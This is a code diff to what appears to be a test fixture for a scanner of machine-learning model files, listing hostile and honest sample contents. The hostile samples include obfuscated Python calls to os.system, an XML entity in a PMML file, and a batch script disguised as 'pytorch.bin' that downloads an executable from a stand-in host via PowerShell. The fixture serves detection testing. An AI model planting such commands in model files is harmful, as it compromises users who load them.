@@ -45,6 +45,8 @@ HOSTILE = {
         "import operator, os\noperator.attrgetter('system')(os)('id')\n",
         "import os\nlist(map(os.system, ['id']))\n",
     ),
+    "custom_generate/generate.py": ("def generate(model, **kept):\n    return model\n",),
+    "pytorch.bin": ("@echo off\r\npowershell -c iwr http://e.example/x -o x.exe\r\n",),
     "net.pmml": ('<!DOCTYPE PMML [<!ENTITY a "x">]><PMML version="4.4">&a;</PMML>',),
     "value.rds": (
         b"X\n" + struct.pack(">3i", 2, 0x40300, 0x20300) + struct.pack(">3i", 5, 251, 6)
@@ -61,7 +63,11 @@ HONEST = {
         "{% if '/no_think' in messages[-1].content %}<think></think>{% endif %}",
     ),
     "config.json": (json.dumps({"model_type": "bert", "architectures": ["BertModel"], "_name_or_path": "/home/me/x"}),),
-    "MLmodel": ("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n",),
+    "MLmodel": (
+        "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n",
+        "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: /home/me/code.py\n",
+    ),
+    "generate.py": ("def generate(model, **kept):\n    return model\n",),
     "requirements.txt": ("torch>=2\nnumpy==1.26 ; python_version >= '3.9'\ntransformers[torch]~=4.0  # pinned\n",),
     "conf.yaml": ("model:\n  _target_: torch.nn.Linear\n  in_features: 3\n",),
     "modeling.py": ("import os\nimport torch\nclass N(torch.nn.Module):\n    p = os.path.join('a', 'b')\n",),
